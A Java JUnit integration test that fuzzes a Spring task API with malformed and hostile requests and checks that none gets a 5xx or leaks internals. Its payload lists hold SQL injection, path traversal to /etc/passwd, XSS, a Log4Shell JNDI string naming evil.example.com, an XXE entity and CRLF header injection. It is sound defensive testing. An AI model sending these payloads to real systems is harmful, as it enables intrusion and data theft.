package cn.beijing.scienceedu.task;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import cn.beijing.scienceedu.task.ApiCalls.Answer;
import cn.beijing.scienceedu.task.ApiCalls.Call;
import cn.beijing.scienceedu.task.delivery.DeliveryInbox;
import cn.beijing.scienceedu.testsupport.TestTokens;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Bad input never gets a 5xx: for every operation of the contracts' task API (read from the spec), requests with
 * wrong types, missing, null and extra fields, huge and empty bodies, invalid UTF-8, wrong content types and injection
 * strings in the path, the query, the headers and the body — generated from a fixed seed over a valid request of each
 * operation, several thousand in all, over real HTTP straight to the service, each authenticated as a caller allowed
 * to call the operation. Every answer is below 500, and every error is an RFC 9457 problem detail without a trace.
 */
class BadInputTest extends IntegrationTest {

    /** Strings that have broken parsers, queries, paths and logs elsewhere. */
    static final List<String> HOSTILE = List.of("' OR '1'='1", "1; DROP TABLE task; --", "\" OR \"\"=\"", "../../../../etc/passwd",
            "..\\..\\windows\\win.ini", "<script>alert(1)</script>", "${jndi:ldap://evil.example.com/a}", "#{7*7}", "{{7*7}}",
            "%s%s%s%n", "\u0000", "\u202e\u0000\uFEFF", "😀🚀𠀀", "admin'--", "*", "?", "#", "\r\nX-Injected: 1", "null", "true",
            "-1", "0", "1e400", "99999999999999999999999999", "NaN", "[]", "{}", " ", "", "SJW", "sjw",
            "\\u0000", "$where: '1 == 1'", "'; select pg_sleep(5); --", "x".repeat(5000));

    /** JSON values of every type, to put where a field expects another. */
    static final List<Object> WRONG_VALUES = List.of("text", "", 123, -1, 0, 1.5, Long.MAX_VALUE, true, false,
            List.of(), List.of(1, "a"), Map.of(), Map.of("a", 1), "字".repeat(20000), "2025-13-45", "9999-12-31T99:99:99Z",
            "' OR '1'='1", "\u0000\u0001\u0002");

    @LocalServerPort
    int port;
    @Autowired
    DeliveryInbox inbox;
    ApiCalls api;
    static String policy;

    @BeforeEach
    void setUp() throws Exception {
        api = new ApiCalls(port, json);
        if (policy == null) {
            policy = freshPlannedPolicy("test-bad-input");
            // some tasks past PLANNED, so the bureau writes reach their validation and their state checks
            TaskActions actions = new TaskActions(mvc, json, inbox);
            for (int m = 1; m <= 20; m += 2) {
                actions.bringTo(policy + ".M" + String.format("%02d", m) + ".SJW", "SIGNED_FOR");
            }
        }
    }

    /** A caller allowed to call the operation (so every request reaches validation). */
    private static Call allowed(TaskApiSpec.Operation op, Call c) {
        AccessControlTest.Rule rule = AccessControlTest.RULES.get(op.id());
        if (rule == null) {
            throw new AssertionError("no access rule for " + op + " in AccessControlTest.RULES");
        }
        if (rule == AccessControlTest.Rule.BUREAU_WRITE) {
            return c.with("Authorization", bearer(TestTokens.service("bureau-adapters"))).with("X-Hub-Acting-Unit", "SJW");
        }
        return c.with("Authorization", bearer(TestTokens.admin("admin-fuzz")));
    }

    @Test
    void noBadInputToAnyOperationGetsA5xxOrAnErrorThatIsNotAProblemDetail() throws Exception {
        List<String> failures = new ArrayList<>();
        Map<String, Integer> sentPerOperation = new TreeMap<>();
        Map<Integer, Integer> byStatus = new TreeMap<>();
        int index = 0;
        for (TaskApiSpec.Operation op : TaskApiSpec.operations()) {
            int measure = (index++ % 10) * 2 + 1;
            String task = policy + ".M" + String.format("%02d", measure) + ".SJW";
            ApiCalls.Objects objects = new ApiCalls.Objects(policy, task, measure, "no-such-request");
            Random random = new Random(op.id().hashCode());
            List<Call> calls = generate(op, objects, random);
            for (Call c : calls) {
                Answer a;
                try {
                    a = api.send(allowed(op, freshKey(c)));
                } catch (IllegalStateException e) {
                    failures.add(op.id() + ": no answer (" + e.getCause() + ")\n    request: " + c);
                    continue;
                }
                byStatus.merge(a.status(), 1, Integer::sum);
                String problem = check(a);
                if (problem != null) {
                    failures.add(op.id() + ": " + problem + "\n    request: " + c + "\n    answer: " + a);
                }
            }
            sentPerOperation.put(op.id(), calls.size());
        }
        int total = sentPerOperation.values().stream().mapToInt(Integer::intValue).sum();
        System.out.println("bad-input run: " + total + " requests, by status " + byStatus + ", per operation " + sentPerOperation);
        assertThat(failures).as(failures.size() + " of " + total + " requests").isEmpty();
        assertThat(total).isGreaterThan(3000);
        assertThat(sentPerOperation).allSatisfy((op, n) -> assertThat(n).as(op).isGreaterThanOrEqualTo(40));
        // and the service still answers normally
        Answer health = api.send(new Call("GET", "/api/v1/tasks/" + policy + ".M01.SJW", Map.of("Authorization", liaison()), null));
        assertThat(health.status()).isEqualTo(200);
    }

    /**
     * The call with a fresh Idempotency-Key when it carries the valid request's: with one key per operation, the first
     * request that succeeded was replayed to every later one, whose bad input then never reached the service (a
     * {@code "kpiValues":[null]} among them, the 500 of issue 17). A call that varies the header keeps its value.
     */
    private static Call freshKey(Call c) {
        String key = c.headers().get("Idempotency-Key");
        return key != null && key.startsWith("acl-") ? c.with("Idempotency-Key", "acl-" + java.util.UUID.randomUUID()) : c;
    }

    /** Null when the answer is acceptable, else what is wrong with it. */
    private String check(Answer a) {
        if (a.status() >= 500) {
            return "a " + a.status();
        }
        if (a.status() < 400) {
            return null;
        }
        if (!a.isProblem()) {
            return "an error that is not application/problem+json";
        }
        JsonNode p;
        try {
            p = api.tree(a);
        } catch (RuntimeException e) {
            return "a problem that is not JSON";
        }
        if (p.path("status").asInt() != a.status()) {
            return "a problem whose status is not the answer's";
        }
        if (a.body().contains("Exception") || a.body().contains("\tat ") || a.body().contains("org.springframework")) {
            return "a problem that shows internals";
        }
        return null;
    }

    // ---- generation -----------------------------------------------------------------------------------------------

    private List<Call> generate(TaskApiSpec.Operation op, ApiCalls.Objects objects, Random random) {
        List<Call> calls = new ArrayList<>();
        Call valid = api.valid(op, objects);
        // path parameters: hostile, wrong-typed, encoded
        for (TaskApiSpec.Param p : op.params("path")) {
            for (String v : pathValues(random)) {
                calls.add(withPathParam(op, objects, p.name(), v));
            }
        }
        // query parameters: each declared one with wrong types and hostile values, repeated, and one not declared
        for (TaskApiSpec.Param p : op.params("query")) {
            for (String v : queryValues()) {
                calls.add(withQuery(valid, p.name(), v));
            }
            calls.add(withQuery(withQuery(valid, p.name(), "1"), p.name(), "2"));
        }
        calls.add(withQuery(valid, "unexpected", URLEncoder.encode("' OR 1=1", StandardCharsets.UTF_8)));
        if (op.params("query").isEmpty()) {
            // an operation without query parameters still gets them, hostile ones
            for (String v : queryValues()) {
                calls.add(withQuery(valid, "q", v));
            }
        }
        // headers
        for (String v : List.of("x".repeat(129), "x".repeat(8000), "' OR '1'='1", " ", "a b c")) {
            calls.add(valid.with("Idempotency-Key", v));
        }
        for (String v : List.of("W/\"1\"", "*", "\"-1\"", "\"99999999999999999999\"", "abc", "\"\"", "\"1\", \"2\"")) {
            calls.add(valid.with("If-Match", v));
        }
        for (String v : List.of("sjw", "' OR 1=1", "X".repeat(300), "", "SJW,SKW", "../SJW")) {
            calls.add(valid.with("X-Hub-Acting-Unit", v));
        }
        calls.add(valid.with("Accept", "application/xml"));
        calls.add(valid.with("Accept", "text/html"));
        // the path itself, with a method it does not have
        calls.add(new Call("DELETE", valid.path(), valid.headers(), null));
        calls.add(new Call("PATCH", valid.path(), valid.headers(), "{}".getBytes(StandardCharsets.UTF_8)));
        if (op.id().equals("uploadAttachment")) {
            calls.addAll(multipartCases(valid));
        } else if (op.bodyTypes().contains("application/json")) {
            calls.addAll(bodyCases(op, valid, random));
        } else {
            // a body where none is expected
            calls.add(valid.withBody("application/json", "{\"unexpected\":true}".getBytes(StandardCharsets.UTF_8)));
            calls.add(valid.withBody("text/plain", "hello".getBytes(StandardCharsets.UTF_8)));
        }
        return calls;
    }

    private List<String> pathValues(Random random) {
        List<String> values = new ArrayList<>();
        HOSTILE.forEach(h -> values.add(URLEncoder.encode(h, StandardCharsets.UTF_8).replace("+", "%20")));
        values.addAll(List.of("%FF%FE%FD", "%C0%AF", "%00", "%2F%2E%2E", "%5C", "..", ".", "%2e%2e", ";jsessionid=1",
                "a;b=c", "abc%20", "-1", "0", "99999999999999999999", "1.5", "1e3", "0x10"));
        values.add("x".repeat(4000));
        values.add(randomAscii(random, 64));
        return values;
    }

    private static String randomAscii(Random random, int length) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < length; i++) {
            b.append((char) ('!' + random.nextInt(94)));
        }
        return URLEncoder.encode(b.toString(), StandardCharsets.UTF_8).replace("+", "%20");
    }

    private List<String> queryValues() {
        List<String> values = new ArrayList<>();
        HOSTILE.forEach(h -> values.add(URLEncoder.encode(h, StandardCharsets.UTF_8)));
        values.addAll(List.of("%FF%FE", "-2147483649", "2147483648", "1.0", "0x1", "%00", ""));
        return values;
    }

    private Call withPathParam(TaskApiSpec.Operation op, ApiCalls.Objects o, String name, String value) {
        ApiCalls.Objects changed = switch (name) {
            case "policyId" -> new ApiCalls.Objects(value, o.taskId(), o.measureNo(), o.extensionRequestId());
            case "taskId" -> new ApiCalls.Objects(o.policyId(), value, o.measureNo(), o.extensionRequestId());
            case "requestId" -> new ApiCalls.Objects(o.policyId(), o.taskId(), o.measureNo(), value);
            case "measureNo" -> o;
            default -> throw new AssertionError("a path parameter the generator does not know: " + name + " of " + op);
        };
        Call c = api.valid(op, changed);
        if (name.equals("measureNo")) {
            c = new Call(c.method(), c.path().replace("/measures/" + o.measureNo() + "/", "/measures/" + value + "/")
                    .replaceAll("/measures/" + o.measureNo() + "$", "/measures/" + value), c.headers(), c.body());
        }
        return c;
    }

    private static Call withQuery(Call c, String name, String encodedValue) {
        String sep = c.path().contains("?") ? "&" : "?";
        return new Call(c.method(), c.path() + sep + name + "=" + encodedValue, c.headers(), c.body());
    }

    private List<Call> bodyCases(TaskApiSpec.Operation op, Call valid, Random random) {
        List<Call> calls = new ArrayList<>();
        byte[] good = valid.body();
        String goodText = new String(good, StandardCharsets.UTF_8);
        // whole-body cases
        for (String raw : List.of("", "null", "[]", "\"text\"", "123", "true", "{", "}", "{\"a\":", "{\"a\":1,}", "{'a':1}",
                "{\"a\":1}{\"b\":2}", goodText.substring(0, goodText.length() / 2), goodText + "garbage", "{\"\u0000\":1}",
                "[".repeat(100_000), "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000), "1e99999", "-0",
                "{\"messageId\":\"a\",\"messageId\":\"b\"}")) {
            calls.add(valid.withBody("application/json", raw.getBytes(StandardCharsets.UTF_8)));
        }
        calls.add(new Call(valid.method(), valid.path(), valid.headers(), null).with("Content-Type", null));
        calls.add(valid.withBody("application/json", null));
        // encodings: invalid UTF-8, UTF-16, BOMs, a declared charset that is not the bytes'
        byte[] invalidUtf8 = goodText.replaceFirst("\"([^\"]{1,40})\"", "\"\u0001MARK\"").getBytes(StandardCharsets.UTF_8);
        String marked = new String(invalidUtf8, StandardCharsets.UTF_8);
        int at = marked.indexOf("\u0001MARK");
        if (at >= 0) {
            byte[] prefix = marked.substring(0, at).getBytes(StandardCharsets.UTF_8);
            byte[] suffix = marked.substring(at + 5).getBytes(StandardCharsets.UTF_8);
            for (byte[] bad : List.of(new byte[] {(byte) 0xC3, (byte) 0x28}, new byte[] {(byte) 0xFF, (byte) 0xFE},
                    new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80,
                            (byte) 0x80, (byte) 0x80}, new byte[] {(byte) 0xC0, (byte) 0xAF})) {
                byte[] body = new byte[prefix.length + bad.length + suffix.length];
                System.arraycopy(prefix, 0, body, 0, prefix.length);
                System.arraycopy(bad, 0, body, prefix.length, bad.length);
                System.arraycopy(suffix, 0, body, prefix.length + bad.length, suffix.length);
                calls.add(valid.withBody("application/json", body));
            }
        }
        calls.add(valid.withBody("application/json", goodText.getBytes(StandardCharsets.UTF_16)));
        calls.add(valid.withBody("application/json;charset=UTF-16", goodText.getBytes(StandardCharsets.UTF_16)));
        calls.add(valid.withBody("application/json", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, good)));
        calls.add(valid.withBody("application/json;charset=GB18030", goodText.getBytes(Charset.forName("GB18030"))));
        calls.add(valid.withBody("application/json;charset=no-such-charset", good));
        calls.add(valid.withBody("application/json", goodText.getBytes(Charset.forName("GB18030"))));
        // content types
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data", "multipart/form-data; boundary=x", "application/octet-stream", "*/*", "application/",
                "garbage", "application/json-patch+json", "application/problem+json", "text/json")) {
            calls.add(valid.withBody(type, good));
        }
        calls.add(valid.withBody("application/xml", ("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                + "<r>&x;</r>").getBytes(StandardCharsets.UTF_8)));
        // a huge body: 6 MB of narrative
        calls.add(valid.withBody("application/json", ("{\"messageId\":\"big\",\"narrative\":\"" + "字".repeat(2_000_000) + "\"}")
                .getBytes(StandardCharsets.UTF_8)));
        // field by field: missing, null, every wrong type, hostile strings, and an extra field beside it
        JsonNode tree = json.readTree(good);
        List<String> paths = new ArrayList<>();
        collectPaths(tree, "", paths);
        if (paths.size() > 40) {
            // the catalogue of importPolicy has thousands of nodes: a seeded sample of them, the top levels always
            List<String> sample = new ArrayList<>(paths.stream().filter(p -> p.chars().filter(ch -> ch == '/').count() <= 2).toList());
            while (sample.size() < 40) {
                sample.add(paths.get(random.nextInt(paths.size())));
            }
            paths = sample;
        }
        for (String path : paths) {
            calls.add(valid.withBody("application/json", mutate(tree, path, Mutation.REMOVE, null)));
            calls.add(valid.withBody("application/json", mutate(tree, path, Mutation.SET, null)));
            for (Object v : WRONG_VALUES) {
                calls.add(valid.withBody("application/json", mutate(tree, path, Mutation.SET, v)));
            }
            calls.add(valid.withBody("application/json", mutate(tree, path, Mutation.SET, HOSTILE.get(random.nextInt(HOSTILE.size())))));
            calls.add(valid.withBody("application/json", mutate(tree, path, Mutation.EXTRA, null)));
        }
        calls.add(valid.withBody("application/json", mutate(tree, "", Mutation.EXTRA, null)));
        return calls;
    }

    private List<Call> multipartCases(Call valid) {
        List<Call> calls = new ArrayList<>();
        String type = valid.headers().get("Content-Type");
        String boundary = type.substring(type.indexOf("boundary=") + 9);
        byte[] good = valid.body();
        String text = new String(good, StandardCharsets.UTF_8);
        calls.add(valid.withBody(type, new byte[0]));
        calls.add(valid.withBody(type, ("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8)));
        calls.add(valid.withBody(type, text.replace("name=\"file\"", "name=\"other\"").getBytes(StandardCharsets.UTF_8)));
        calls.add(valid.withBody(type, text.substring(0, text.length() / 2).getBytes(StandardCharsets.UTF_8)));
        calls.add(valid.withBody("multipart/form-data", good));
        calls.add(valid.withBody("multipart/form-data; boundary=wrong", good));
        calls.add(valid.withBody("multipart/mixed; boundary=" + boundary, good));
        calls.add(valid.withBody("application/json", "{\"file\":\"x\"}".getBytes(StandardCharsets.UTF_8)));
        calls.add(valid.withBody("application/pdf", "%PDF-1.7".getBytes(StandardCharsets.UTF_8)));
        for (String name : List.of("../../etc/passwd", "", "x".repeat(5000), "a\u0000.pdf", "<script>.pdf", "进展\r\n.pdf", "%00.pdf",
                "' OR 1=1 --.pdf")) {
            calls.add(valid.withBody(type, text.replace("进展.pdf", name).getBytes(StandardCharsets.UTF_8)));
        }
        for (String partType : List.of("", "garbage", "application/x-msdownload", "text/html", "application/pdf; charset=x",
                "image/svg+xml", "*/*")) {
            calls.add(valid.withBody(type, text.replace("Content-Type: application/pdf", "Content-Type: " + partType)
                    .getBytes(StandardCharsets.UTF_8)));
        }
        // 12 MB: above the attachment limit
        byte[] big = new byte[12 * 1024 * 1024];
        java.util.Arrays.fill(big, (byte) 'a');
        System.arraycopy("%PDF-".getBytes(StandardCharsets.US_ASCII), 0, big, 0, 5);
        String head = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.pdf\"\r\n"
                + "Content-Type: application/pdf\r\n\r\n";
        calls.add(valid.withBody(type, concat(concat(head.getBytes(StandardCharsets.UTF_8), big),
                ("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8))));
        return calls;
    }

    enum Mutation {
        REMOVE, SET, EXTRA
    }

    private static void collectPaths(JsonNode node, String path, List<String> out) {
        if (node instanceof ObjectNode o) {
            for (String name : o.propertyNames()) {
                String p = path + "/" + name;
                out.add(p);
                collectPaths(o.get(name), p, out);
            }
        } else if (node instanceof ArrayNode a) {
            for (int i = 0; i < a.size() && i < 2; i++) {
                String p = path + "/" + i;
                out.add(p);
                collectPaths(a.get(i), p, out);
            }
        }
    }

    /** A copy of {@code tree} with the node at {@code path} removed, set to {@code value}, or given a sibling. */
    private byte[] mutate(JsonNode tree, String path, Mutation m, Object value) {
        JsonNode copy = tree.deepCopy();
        int slash = path.lastIndexOf('/');
        JsonNode parent = slash <= 0 ? copy : copy.at(path.substring(0, slash));
        String last = path.isEmpty() ? "" : path.substring(slash + 1);
        JsonNode v = json.valueToTree(value);
        if (m == Mutation.EXTRA) {
            JsonNode target = path.isEmpty() ? copy : copy.at(path);
            if (target instanceof ObjectNode o) {
                o.put("unexpectedField", "' OR 1=1");
            } else if (parent instanceof ObjectNode o) {
                o.put(last + "Unexpected", 1);
            }
        } else if (parent instanceof ObjectNode o) {
            if (m == Mutation.REMOVE) {
                o.remove(last);
            } else {
                o.set(last, v);
            }
        } else if (parent instanceof ArrayNode a) {
            int i = Integer.parseInt(last);
            if (m == Mutation.REMOVE) {
                a.remove(i);
            } else {
                a.set(i, v);
            }
        }
        return json.writeValueAsBytes(copy);
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = new byte[a.length + b.length];
        System.arraycopy(a, 0, out, 0, a.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }
}
